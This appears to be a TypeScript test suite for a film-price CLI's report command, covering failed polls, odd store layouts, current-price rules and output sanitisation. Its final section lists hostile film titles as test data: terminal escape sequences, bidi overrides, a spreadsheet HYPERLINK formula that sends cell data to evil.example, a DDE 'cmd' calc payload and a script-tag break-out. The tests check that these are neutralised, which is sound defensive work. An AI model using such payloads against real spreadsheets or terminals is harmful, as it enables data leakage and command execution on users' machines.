// The report over the stores an operator meets when things go wrong (every poll failed, empty or
// missing table folders, zero-row files), what counts as a current price when a provider stops
// listing a film, and provider text that tries to drive the terminal or the spreadsheet. Stores
// are built by the real `poll` against real HTTP servers and read by the real `report`.
import assert from 'node:assert/strict';
import { cpSync, mkdirSync, readFileSync, rmSync } from 'node:fs';
import path from 'node:path';
import { before, test } from 'node:test';
import { startMockProvider } from '../src/mock/server.js';
import type { Report } from '../src/report/report.js';
import { csvCell, terminalText } from '../src/report/text.js';
import { hasStackTrace, runCli, tempDir, type CliResult } from './helpers.js';
import { film, startScriptedProvider } from './scripted-provider.js';

const FORMATS = ['table', 'json', 'csv'] as const;

async function report(dataDir: string, format: (typeof FORMATS)[number], extra: string[] = []): Promise<CliResult> {
  const result = await runCli(['report', '--data-dir', dataDir, '--format', format, ...extra]);
  assert.ok(!hasStackTrace(result.stderr), result.stderr);
  return result;
}

async function json(dataDir: string, extra: string[] = []): Promise<Report> {
  const result = await report(dataDir, 'json', extra);
  assert.equal(result.code, 0, result.stderr);
  return JSON.parse(result.stdout) as Report;
}

/** The run id a `poll` printed. */
const runIdOf = (result: CliResult) => {
  const id = /^run (\S+) \(/m.exec(result.stdout)?.[1];
  assert.ok(id, result.stdout + result.stderr);
  return id;
};

// ---- item 7 and the reader's side of item 10: stores with no complete poll, odd shapes ----

let failedStore: string;
let failedRun: string;
let goodStore: string;

before(async () => {
  const root = tempDir({ after: (fn) => process.on('exit', fn) }, 'mc-report-store-');
  const mock = await startMockProvider({ seed: 5 });
  try {
    failedStore = path.join(root, 'failed');
    const failed = await runCli(['poll', '--data-dir', failedStore], { env: { API_TOKEN: 'wrong-token', PROVIDER_BASE_URL: mock.url } });
    assert.equal(failed.code, 1, failed.stderr);
    failedRun = runIdOf(failed);
    goodStore = path.join(root, 'good');
    const good = await runCli(['poll', '--data-dir', goodStore], { env: { API_TOKEN: mock.token, PROVIDER_BASE_URL: mock.url } });
    assert.equal(good.code, 0, good.stderr);
  } finally {
    await mock.close();
  }
});

/**
 * A copy of a store as the writer left it before every poll wrote a movies and a rejects file
 * (item 10): no file in `tables` (a failed poll wrote only runs; a poll without rejects no
 * rejects), then changed by `shape`.
 */
function oldStyle(t: { after(fn: () => void): void }, from: string, tables: string[], shape: (dir: string) => void) {
  const dir = path.join(tempDir(t), 'data');
  cpSync(from, dir, { recursive: true });
  for (const table of tables) rmSync(path.join(dir, table), { recursive: true, force: true });
  shape(dir);
  return dir;
}

test('a store whose every poll failed (wrong token; zero-row movies and rejects files): report exits 0 in every format, health shows the failed polls', async () => {
  const r = await json(failedStore);
  assert.deepEqual(r.best_prices, []);
  assert.equal(r.cheapest_film, null);
  assert.deepEqual(r.health.polls_per_day.map((d) => [d.complete, d.partial, d.failed]), [[0, 0, 1]]);
  assert.deepEqual(r.health.latest_polls.map((l) => [l.provider, l.run, l.status]), [['cinemaworld', failedRun, 'failed'], ['filmworld', failedRun, 'failed']]);
  for (const l of r.health.latest_polls) assert.match(l.error ?? '', /401/);
  assert.deepEqual(r.prices_as_of, { cinemaworld: null, filmworld: null });
  assert.equal(r.health.last_complete_poll, null);

  const table = await report(failedStore, 'table');
  assert.equal(table.code, 0, table.stderr);
  assert.equal(table.stderr, '');
  assert.match(table.stdout, /^\d{4}-\d\d-\d\d\s+0\s+0\s+1$/m, 'polls per day: one failed');
  assert.match(table.stdout, /^cinemaworld\s+failed\s+\S+ \S+\s+list call failed: HTTP 401/m);
  assert.match(table.stdout, /^cinemaworld\s+no answered poll/m);
  const csv = await report(failedStore, 'csv');
  assert.equal(csv.code, 0, csv.stderr);
  assert.equal(csv.stdout, 'film,cheapest,saving\n');
  const health = await report(failedStore, 'csv', ['--section', 'health']);
  assert.equal(health.code, 0, health.stderr);
  assert.match(health.stdout, /^dt,complete,partial,failed\n\d{4}-\d\d-\d\d,0,0,1\n$/);
});

const SHAPES: Record<string, (dir: string) => void> = {
  'no other change': () => undefined,
  'an empty dt= folder in every table': (dir) => {
    for (const table of ['movies', 'rejects', 'runs']) mkdirSync(path.join(dir, table, 'dt=2020-01-01'), { recursive: true });
  },
  'a dt= folder holding an empty run= folder': (dir) => {
    for (const table of ['movies', 'rejects', 'runs']) mkdirSync(path.join(dir, table, 'dt=2020-01-01', 'run=20200101T000000Z-0000'), { recursive: true });
  },
  'a run= folder holding an empty provider= folder': (dir) => {
    for (const table of ['movies', 'rejects']) mkdirSync(path.join(dir, table, 'dt=2020-01-01', 'run=20200101T000000Z-0000', 'provider=cinemaworld'), { recursive: true });
  },
  'table folders with no files': (dir) => {
    for (const table of ['movies', 'rejects']) mkdirSync(path.join(dir, table), { recursive: true });
  },
};

for (const [name, shape] of Object.entries(SHAPES)) {
  test(`old-style store of failed polls (only runs/) with ${name}: every format exits 0 and shows the failed poll`, async (t) => {
    const dir = oldStyle(t, failedStore, ['movies', 'rejects'], shape);
    for (const format of FORMATS) {
      const result = await report(dir, format);
      assert.equal(result.code, 0, `${format}: ${result.stderr}`);
      assert.equal(result.stderr, '', format);
    }
    const r = await json(dir);
    assert.deepEqual(r.health.polls_per_day.map((d) => d.failed), [1]);
    assert.deepEqual(r.health.latest_polls.map((l) => l.status), ['failed', 'failed']);
    assert.deepEqual(r.best_prices, []);
  });
  test(`old-style store with a complete poll (no rejects/) with ${name}: prices still read`, async (t) => {
    const dir = oldStyle(t, goodStore, ['rejects'], shape);
    for (const format of FORMATS) assert.equal((await report(dir, format)).code, 0, format);
    const r = await json(dir);
    assert.equal(r.best_prices.length, 7);
    assert.equal(r.health.polls_per_day.reduce((n, d) => n + d.complete, 0), 1);
  });
}

test('a runs/ folder with no file at all is "no committed poll", exit 0', async (t) => {
  const dir = path.join(tempDir(t), 'data');
  mkdirSync(path.join(dir, 'runs', 'dt=2020-01-01', 'run=20200101T000000Z-0000'), { recursive: true });
  for (const format of FORMATS) {
    const result = await report(dir, format);
    assert.equal(result.code, 0, result.stderr);
    assert.equal(result.stdout, '');
    assert.match(result.stderr, /^no committed poll in the store at .* yet/);
  }
});

// ---- item 8: what counts as a current price ----------------------------------------------

test('current prices: a film a provider stopped listing is no longer its price; a partial poll changes nothing; an old poll still counts, with its age', async (t) => {
  /** A provider's catalogue: id → [title, price], or null for a listed film whose detail call fails (404: a partial poll that may miss films). */
  const catalogue = (films: Record<string, [string, string] | null>) =>
    Object.fromEntries(Object.entries(films).map(([id, f]) => [id, f ? film(id, { Title: f[0], Price: f[1], Year: '2001' }) : undefined]));
  // Poll 1: both complete; cinemaworld sells B cheapest of all.
  const provider = await startScriptedProvider({
    cinemaworld: catalogue({ cw0000001: ['Film A', '10'], cw0000002: ['Film B', '5'] }),
    filmworld: catalogue({ fw0000001: ['Film A', '11'], fw0000002: ['Film B', '19'] }),
  });
  t.after(() => provider.close());
  const dir = path.join(tempDir(t), 'data');
  const poll = async (expected: number) => {
    const result = await runCli(['poll', '--data-dir', dir], { env: { API_TOKEN: provider.token, PROVIDER_BASE_URL: provider.url, HTTP_RETRIES: '0' } });
    assert.equal(result.code, expected, result.stdout + result.stderr);
    return runIdOf(result);
  };
  const run1 = await poll(0);
  // Poll 2: cinemaworld stops listing B (complete); filmworld is partial (B's detail call fails) with A at a new price.
  provider.set('cinemaworld', catalogue({ cw0000001: ['Film A', '12'] }));
  provider.set('filmworld', catalogue({ fw0000001: ['Film A', '15'], fw0000002: null }));
  const run2 = await poll(2);

  let r = await json(dir);
  const prices = (rep: Report) => Object.fromEntries(rep.best_prices.map((f) => [f.title, f.prices]));
  assert.deepEqual(prices(r), { 'Film A': { cinemaworld: '12.00', filmworld: '11.00' }, 'Film B': { filmworld: '19.00' } });
  const b = r.best_prices.find((f) => f.title === 'Film B');
  assert.equal(b?.only_on, 'filmworld', 'B is no longer on cinemaworld');
  assert.deepEqual(r.cheapest_film && [r.cheapest_film.title, r.cheapest_film.provider, r.cheapest_film.price, r.cheapest_film.as_of.run], ['Film A', 'filmworld', '11.00', run1]);
  assert.equal(r.cheapest_provider.films_compared, 1, 'only A is on both providers now');
  assert.deepEqual(r.cheapest_provider.totals, { cinemaworld: '12.00', filmworld: '11.00' });
  const a = r.best_prices.find((f) => f.title === 'Film A');
  assert.deepEqual(Object.fromEntries(Object.entries(a?.as_of ?? {}).map(([p, x]) => [p, x.run])), { cinemaworld: run2, filmworld: run1 });
  assert.deepEqual(Object.fromEntries(Object.entries(r.prices_as_of).map(([p, x]) => [p, x?.run])), { cinemaworld: run2, filmworld: run1 });
  for (const x of Object.values(r.prices_as_of)) assert.ok(x && x.age_seconds >= 0 && !Number.isNaN(Date.parse(x.started_at)));
  for (const f of r.best_prices) for (const x of Object.values(f.as_of)) assert.ok(!Number.isNaN(Date.parse(x.polled_at)));

  // Table and CSV carry the same: B filmworld-only, each price's poll.
  const table = await report(dir, 'table');
  assert.match(table.stdout, /^Film B \(2001\)\s+-\s+19\.00\s+filmworld only\s+-$/m);
  assert.match(table.stdout, new RegExp(`^cinemaworld\\s+${run2}\\s+\\d{4}-\\d\\d-\\d\\d \\d\\d:\\d\\dZ\\s+\\d+[smhd]`, 'm'));
  assert.match(table.stdout, new RegExp(`^filmworld\\s+${run1}\\s`, 'm'));
  const csv = (await report(dir, 'csv')).stdout.trim().split('\n');
  assert.equal(csv[0], 'film,cinemaworld,filmworld,cheapest,saving,cinemaworld run,cinemaworld polled_at,filmworld run,filmworld polled_at');
  assert.match(csv[2] ?? '', new RegExp(`^Film B \\(2001\\),,19\\.00,filmworld only,,,,${run1},\\d{4}-\\d\\d-\\d\\dT[\\d:.]+Z$`));

  // Poll 3: cinemaworld partial at a new price (its poll 2 stays current, older now); filmworld
  // complete without B: B has no current price anywhere.
  provider.set('cinemaworld', catalogue({ cw0000001: ['Film A', '1'], cw0000009: null }));
  provider.set('filmworld', catalogue({ fw0000001: ['Film A', '16'] }));
  const run3 = await poll(2);
  r = await json(dir);
  assert.deepEqual(prices(r), { 'Film A': { cinemaworld: '12.00', filmworld: '16.00' } });
  assert.deepEqual(Object.fromEntries(Object.entries(r.prices_as_of).map(([p, x]) => [p, x?.run])), { cinemaworld: run2, filmworld: run3 });
  // A --film filter does not change which poll is current.
  assert.deepEqual(prices(await json(dir, ['--film', 'film b'])), {});
  assert.deepEqual(prices(await json(dir, ['--provider', 'cinemaworld'])), { 'Film A': { cinemaworld: '12.00' } });
});

// ---- item 12: provider text never drives the terminal or the spreadsheet --------------------

/** Titles a hostile provider could send: terminal escapes (CSI, OSC title/hyperlink, BEL, C1
 * CSI), a newline and CR, bidi override, and spreadsheet formulas. */
const HOSTILE_TITLES = [
  'Red \u001b[31mAlert\u001b[0m',
  'Retitle \u001b]0;pwned\u0007 me',
  'Link \u001b]8;;http://evil.example/\u001b\\click\u001b]8;;\u001b\\',
  'Two\nLines\r\nFilm',
  'C1 \u009b2J clear',
  'Bidi \u202eevil\u202c',
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  '+1+cmd|\' /C calc\'!A0',
  '-2+3',
  '@SUM(A1:A2)',
  'Semi;=1+2',
  '</script><b>bold</b>',
];
const ids = (prefix: string) =>
  Object.fromEntries(HOSTILE_TITLES.map((title, i) => {
    const id = `${prefix}${String(i + 1).padStart(7, '0')}`;
    return [id, film(id, { Title: title, Price: `${i + 1}`, Year: '2001' })];
  }));

test('hostile titles: the table shows control characters as escapes, one row per film; CSV cells are neutralised; JSON is exact; HTML escapes', async (t) => {
  const provider = await startScriptedProvider({ cinemaworld: ids('cw'), filmworld: ids('fw') });
  t.after(() => provider.close());
  const dir = path.join(tempDir(t), 'data');
  const poll = await runCli(['poll', '--data-dir', dir], { env: { API_TOKEN: provider.token, PROVIDER_BASE_URL: provider.url } });
  assert.equal(poll.code, 0, poll.stdout + poll.stderr);

  const r = await json(dir);
  assert.deepEqual(r.best_prices.map((f) => f.title).sort(), HOSTILE_TITLES.map((x) => x.trim()).sort(), 'JSON keeps titles exact');

  const table = await report(dir, 'table', ['--section', 'best-prices']);
  assert.equal(table.code, 0, table.stderr);
  // eslint-disable-next-line no-control-regex -- looking for control characters is the point
  const controls = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/u;
  assert.doesNotMatch(table.stdout, controls, 'no control character but newline reaches the terminal');
  const [bestPrices = ''] = table.stdout.split('\n\n');
  assert.equal(bestPrices.split('\n').length, 2 + HOSTILE_TITLES.length, 'title, header, one line per film');
  assert.match(table.stdout, /^Red \\u\{1b\}\[31mAlert/m);
  for (const line of table.stdout.split('\n')) assert.ok([...line].length <= 80, `too wide: ${line}`);
  const history = await report(dir, 'table', ['--section', 'history']);
  assert.doesNotMatch(history.stdout, controls);
  assert.equal(history.stdout.trim().split('\n').length, 2 + 2 * HOSTILE_TITLES.length);

  for (const section of ['best-prices', 'history', 'cheapest'] as const) {
    const csv = await report(dir, 'csv', ['--section', section]);
    assert.equal(csv.code, 0, csv.stderr);
    const rows = parseCsv(csv.stdout);
    const width = rows[0]?.length;
    for (const row of rows) {
      assert.equal(row.length, width, `${section}: ${JSON.stringify(row)}`);
      for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `${section}: a cell a spreadsheet would run: ${cell}`);
    }
    const titles = section === 'cheapest' ? [] : rows.slice(1).map((row) => row[0] ?? '');
    for (const title of titles) {
      const original = title.replace(/^'(?=[=+\-@\t\r])/, '').replace(/ \(2001\)$/, '');
      assert.ok(HOSTILE_TITLES.includes(original), `${section}: CSV keeps the text, only prefixed: ${JSON.stringify(title)}`);
    }
  }
  const best = parseCsv((await report(dir, 'csv')).stdout);
  assert.ok(best.some((row) => row[0] === '\'=HYPERLINK("http://evil.example/?"&A1,"x") (2001)'));
  assert.ok(best.some((row) => row[0] === '\'-2+3 (2001)'));
  assert.ok(best.some((row) => row[0] === 'Two\nLines\r\nFilm (2001)'), 'a newline stays inside its quoted cell');

  const page = path.join(tempDir(t), 'report.html');
  assert.equal((await runCli(['report', '--data-dir', dir, '--html', page])).code, 0);
  const html = readFileSync(page, 'utf8');
  // The page's data is JSON in a data block with every < escaped (its script sets text, never HTML).
  assert.ok(!html.includes('<b>bold</b>') && html.includes('\\u003c/script>\\u003cb>bold'), 'HTML escapes titles');
});

/** RFC 4180 parser for the test (quoted cells may hold commas, quotes and line breaks). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const endCell = () => {
    row.push(cell);
    cell = '';
  };
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted && c === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (quoted && c === '"') quoted = false;
    else if (quoted) cell += c;
    else if (c === '"' && cell === '') quoted = true;
    else if (c === ',') endCell();
    else if (c === '\n') {
      endCell();
      rows.push(row);
      row = [];
    } else cell += c;
  }
  if (cell !== '' || row.length > 0) {
    endCell();
    rows.push(row);
  }
  return rows;
}

test('csvCell and terminalText, cell by cell (tab and CR prefixes cannot come through a poll: titles are trimmed)', () => {
  assert.equal(csvCell('\t=1+2'), '"\'\t=1+2"');
  assert.equal(csvCell('\r=1+2'), '"\'\r=1+2"');
  assert.equal(csvCell('-'), '\'-');
  assert.equal(csvCell('plain'), 'plain');
  assert.equal(csvCell('a,b'), '"a,b"');
  assert.equal(csvCell('say "hi"'), '"say ""hi"""');
  assert.equal(terminalText('a\tb\u0000c\u007f\u0085'), 'a\\u{9}b\\u{0}c\\u{7f}\\u{85}');
  assert.equal(terminalText('Ünïcödé 🎬 ok'), 'Ünïcödé 🎬 ok');
});
